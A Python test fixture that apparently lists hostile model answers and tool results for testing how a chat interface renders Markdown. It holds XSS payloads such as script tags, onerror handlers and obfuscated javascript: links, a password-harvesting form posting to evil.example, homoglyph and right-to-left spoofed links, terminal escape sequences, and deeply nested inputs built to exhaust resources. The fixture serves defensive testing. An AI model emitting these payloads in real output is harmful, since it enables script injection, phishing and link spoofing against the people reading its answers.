"""Texts that are written to harm a page: what each of them is, as an answer's Markdown or a tool's result."""

MANY = 10_000
HIGH = 500
RIGHT_TO_LEFT = "\u202e"
ISOLATES = "\u2066\u2067\u2068"
ZERO_WIDTH = "\u200b"
STACKED = "Z" + "\u0301" * HIGH
"""A letter with accents over it, higher than a page."""

ANSWERS = {
    "a script": "<script>window.harmed = true</script>\n\nafter",
    "a script in a picture": "<svg onload='window.harmed = true'><script>harmed = true</script></svg>",
    "a picture from elsewhere": "![x](https://evil.example/x.png) <img src=x onerror='window.harmed=true'>",
    "links that run": "[a](javascript:window.harmed=true) [b](data:text/html,<script>alert(1)</script>)"
    " [c](vbscript:x) [d](JaVaScRiPt&colon;window.harmed=true) <javascript:window.harmed=true>"
    " [e](\x01javascript:window.harmed=true) [f](java\tscript:window.harmed=true)",
    "a frame": "<iframe src='https://evil.example/'></iframe><object data='https://evil.example/'></object>",
    "a form": "<form action='https://evil.example/'><input name=password><button>Sign in</button></form>",
    "styles": "<style>body { display: none }</style><link rel=stylesheet href=https://evil.example/x.css>",
    "a diagram": '```mermaid\ngraph TD; A-->B; click A href "javascript:window.harmed=true"\n```',
    "a table of 2,000 rows": "| a | b |\n|---|---|\n" + "| one | two |\n" * 2000,
    "a line of a million letters": "x" * 1_000_000,
    "a million words": "word " * 200_000,
    "ten thousand quotes": ">" * MANY + " deep",
    "ten thousand lists": "- " * MANY + "deep",
    "ten thousand numbered lists": "1. " * MANY + "deep",
    "ten thousand emphases": "*a **b " * MANY,
    "ten thousand nested emphases": "*a _b " * (MANY // 2) + "_ *" * (MANY // 2),
    "ten thousand ends without a beginning": "a* b_ " * (MANY // 2),
    "ten thousand lines that go on with a quote": "> a\n" + "b\n" * MANY + "> a\nb\n" * MANY,
    "ten thousand brackets": "[" * MANY + "a" + "](b)" * MANY,
    "ten thousand back ticks": "`a``b```" * MANY,
    "ten thousand footnotes": "".join(f"[^{n}]\n\n[^{n}]: x\n\n" for n in range(1_000)),
    "words turned round": f"Open {RIGHT_TO_LEFT}gpj.exe{ISOLATES} now\n\n`a{RIGHT_TO_LEFT}b`\n\nafter",
    "accents to the sky": f"{STACKED} {STACKED}\n\n```text\n{STACKED}\n```\n\n[{STACKED}](https://example.org/)",
    "a host that looks like another": "[https://exаmple.org/](https://exаmple.org/) https://exаmple.org/",
    "a link that says another host": f"[example.org](https://evil.example/) "
    f"[exa{ZERO_WIDTH}mple.org](https://evil.example/{ZERO_WIDTH})"
    " [https://example.org@evil.example/](https://example.org@evil.example/)",
    "signs of a terminal": "\x1b[31mred\x1b[0m \x1b]8;;https://evil.example\x07link\x1b]8;;\x07 \0 \x9b31m",
    "half a character": "before \ud800 between \udfff after",
}
"""Of a model, by what they are."""

RESULTS = {
    "five megabytes": "line of a result\n" * 320_000,
    "one line of five megabytes": "x" * 5_000_000,
    "markup": "<script>harmed = true</script><img src=https://evil.example/x onerror='harmed=true'>",
    "words turned round": f"a{RIGHT_TO_LEFT}b{ISOLATES}c",
    "accents to the sky": f"{STACKED}\n" * 20,
    "signs of a terminal": "\x1b[31mred\x1b[0m\x1b[2J\x07\x00 \ud800",
}
"""Of a tool."""
